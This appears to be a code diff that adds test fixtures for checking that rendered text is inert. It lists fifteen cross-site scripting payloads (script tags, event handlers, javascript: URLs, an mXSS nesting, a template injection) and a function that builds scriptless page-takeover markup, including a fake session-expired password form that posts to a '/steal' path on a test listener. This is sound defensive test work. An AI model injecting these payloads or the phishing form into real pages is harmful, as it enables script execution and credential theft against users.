@@ -33,6 +33,45 @@ MARKUP_TEXTS = [
     "right-to-left \u202eoverride\u202c, zero\u200bwidth, emoji 🧪, CJK 漢字, combining e\u0301",
 ]
 
+# Script payloads, numbered: each calls alert(n) if it ever runs (classic vectors, an mXSS, javascript: URLs,
+# an iframe document, a Vue template).
+SCRIPT_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    "<svg onload=alert(3)>",
+    "<body onload=alert(4)>",
+    '<iframe src="javascript:alert(5)"></iframe>',
+    '<iframe srcdoc="&lt;script&gt;alert(6)&lt;/script&gt;"></iframe>',
+    "<input autofocus onfocus=alert(7)>",
+    "<details open ontoggle=alert(8)>details</details>",
+    "<video><source onerror=alert(9)></video>",
+    '<object data="javascript:alert(10)"></object>',
+    '<embed src="javascript:alert(11)">',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
+    '<a href="javascript:alert(13)">a link to click</a>',
+    "[a markdown link](javascript:alert(14))",
+    "{{ constructor.constructor('alert(15)')() }}",
+]
+# Marks every element a payload below would create (in an attribute or a style sheet): none may exist.
+TAKEOVER_TOKEN = "inert-probe"
+
+
+def takeover_payloads(origin: str) -> list[str]:
+    """Markup that takes over a page without a script: a phishing form, page styles, an overlay, remote fetches of
+    `origin` (a listener the test runs), as HTML and as markdown."""
+    return [
+        f'<form action="{origin}/steal" class="{TAKEOVER_TOKEN}">Session expired. Password: '
+        f'<input type="password" name="password" class="{TAKEOVER_TOKEN}"><button>Sign in</button></form>',
+        f"<style>.{TAKEOVER_TOKEN}, body {{ background: rgb(255, 0, 0) !important }}</style>",
+        f'<div class="{TAKEOVER_TOKEN}" style="position:fixed;inset:0;z-index:2147483647;background:white">'
+        "The page is covered</div>",
+        f'<img class="{TAKEOVER_TOKEN}" src="{origin}/html-image.png">',
+        f"![a markdown image]({origin}/markdown-image.png)",
+        f'<div class="{TAKEOVER_TOKEN}" style="background-image:url({origin}/css-image.png)">styled</div>',
+        f'<link rel="stylesheet" class="{TAKEOVER_TOKEN}" href="{origin}/sheet.css">',
+        f"<{origin}/autolink> and {origin}/bare-url",
+    ]
+
 
 # Valid text that is not ASCII, each on one line (so a CSV row stays one line and its location is easy to tell):
 # scripts, astral and combining characters, invisible and direction controls, markup.
